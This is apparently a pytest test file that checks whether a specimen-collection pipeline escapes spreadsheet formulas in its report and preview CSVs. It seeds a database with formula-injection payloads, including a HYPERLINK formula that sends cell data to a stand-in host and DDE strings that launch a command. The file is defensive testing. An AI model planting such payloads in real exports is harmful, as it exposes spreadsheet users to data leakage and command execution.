"""Hostile rows of a real source database never reach a report CSV as spreadsheet formulas."""

from __future__ import annotations

import csv
import pathlib
from typing import Any

import pandas as pd
import pytest
import sqlalchemy as sa

from tests.zenodo.data_helpers import write_jpeg
from zenodo.config.collection_file import CollectionConfig, ImageTemplate
from zenodo.ledger.ledger import Ledger
from zenodo.ledger.prepare import prepare_collection
from zenodo.report.csv_cells import FORMULA_STARTS, safe_cell, safe_csv, safe_frame
from zenodo.report.run_report import CSV_COLUMNS, build_report, preview_writer, write_report

#: occurrenceID (the key) -> eventDate; each key is a formula a spreadsheet would run.
HOSTILE = {
    '=HYPERLINK("http://evil.example/?d="&A1,"open")': "1985-05-15",
    "+cmd|' /C calc'!A0": "=1+2",
    "-2+3": "1985-05-15",
    "@SUM(1+1)*cmd|' /C calc'!A0": "1985-05-15",
    "\t=1+1": "1985-05-15",  # the source strips the tab: "=1+1"
    "\r=2+2": "1985-05-15",
}
COLUMNS = ("occurrenceID", "catalogNumber", "institutionCode", "basisOfRecord",
           "scientificName", "family", "recordedBy", "eventDate", "countryCode")


def _source(url: str, root: pathlib.Path) -> None:
    engine = sa.create_engine(url)
    table = sa.Table("specimens", sa.MetaData(), *(sa.Column(c, sa.Text) for c in COLUMNS))
    table.metadata.create_all(engine)
    rows = []
    for number, (key, date) in enumerate(HOSTILE.items()):
        catalog = f"BR{number:010d}"
        write_jpeg(root / f"{catalog}.jpg")
        rows.append({"occurrenceID": key, "catalogNumber": catalog, "institutionCode": "BR",
                     "basisOfRecord": "PRESERVED_SPECIMEN", "scientificName": "Quercus robur L.",
                     "family": "Fagaceae", "recordedBy": "-Someone", "eventDate": date,
                     "countryCode": "BE"})
    with engine.begin() as conn:
        conn.execute(table.insert(), rows)
    engine.dispose()


def _config(url: str, root: pathlib.Path) -> CollectionConfig:
    values: dict[str, Any] = {
        "id": "hostile", "db_url": url, "db_conn_id": None, "table": "specimens",
        "query": None, "mapping": "pilot2", "image_root": root,
        "image_templates": (ImageTemplate("{catalogNumber}.jpg", "{catalogNumber}.jpg"),),
    }
    return CollectionConfig(**values)


def _cells(path: pathlib.Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _frame(path: pathlib.Path) -> pd.DataFrame:
    """Read a report CSV with pandas, every cell as text and an empty cell as ""."""
    return pd.read_csv(path, dtype=str, keep_default_na=False)


def _assert_no_formula(rows: list[list[str]]) -> None:
    bad = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert bad == [], f"cells a spreadsheet would run: {bad!r}"
    keys = {row[0] for row in rows[1:]}
    assert {f"'{key.strip()}" for key in HOSTILE} <= {k.split("#row-")[0] for k in keys}, keys


def test_report_and_preview_csv_escape_formulas_from_the_source_database(
    database_url: str, sqlite_ledger: Ledger, tmp_path: pathlib.Path
) -> None:
    _source(database_url, tmp_path / "images")
    config = _config(database_url, tmp_path / "images")

    preview_folder = tmp_path / "preview"
    with preview_writer(preview_folder) as write:
        prepare_collection(config, ledger=sqlite_ledger, cache_dir=tmp_path / "cache",
                           preview=write)
    _assert_no_formula(_cells(preview_folder / "preview.csv"))
    preview = _frame(preview_folder / "preview.csv")
    assert preview.values.tolist() == _cells(preview_folder / "preview.csv")[1:]

    result = prepare_collection(config, ledger=sqlite_ledger, cache_dir=tmp_path / "cache")
    assert result.rows == len(HOSTILE), "every hostile row is read, registered or quarantined"
    paths = write_report(build_report(sqlite_ledger, config.id, run_id="r1"), sqlite_ledger,
                         tmp_path / "reports")
    rows = _cells(paths["csv"])
    _assert_no_formula(rows)
    assert len(rows) == 1 + len(HOSTILE)
    frame = _frame(paths["csv"])
    assert tuple(frame.columns) == CSV_COLUMNS and frame.values.tolist() == rows[1:]
    assert not frame.map(lambda cell: cell.startswith(FORMULA_STARTS)).any().any()


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("\uff1d1+1", "'\uff1d1+1"), ("a=1", "a=1"), ("", ""), (None, ""),
    ("10.5072/zenodo.7", "10.5072/zenodo.7"), (7, "7"),
])
def test_safe_cell(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


def test_a_frame_is_written_safe_in_chunks_and_reads_back_the_same_with_both_readers(
    tmp_path: pathlib.Path
) -> None:
    """25 rows in chunks of 10: one header, every row in order, quotes and breaks kept."""
    rows = [[f"=cmd{i}", f'say "hi", {i}', None if i % 2 else f"-{i}\nline two", i]
            for i in range(25)]
    path = tmp_path / "chunks.csv"
    with safe_csv(path, ("key", "text", "reason", "n"), chunk=10) as out:
        for row in rows:
            out.add(row)
    expected = [[f"'=cmd{i}", f'say "hi", {i}', "" if i % 2 else f"'-{i}\nline two", str(i)]
                for i in range(25)]
    assert _cells(path) == [["key", "text", "reason", "n"], *expected]
    assert _frame(path).values.tolist() == expected
    assert path.read_bytes().count(b"\r\n") == 26, "one line per row, CRLF as csv.writer"


def test_safe_frame_guards_every_cell_and_empties_missing_values() -> None:
    frame = pd.DataFrame({"key": ["=1+1", "a", None], "n": [1.5, None, -2.0]})
    assert safe_frame(frame).values.tolist() == [["'=1+1", "1.5"], ["a", ""], ["", "'-2.0"]]
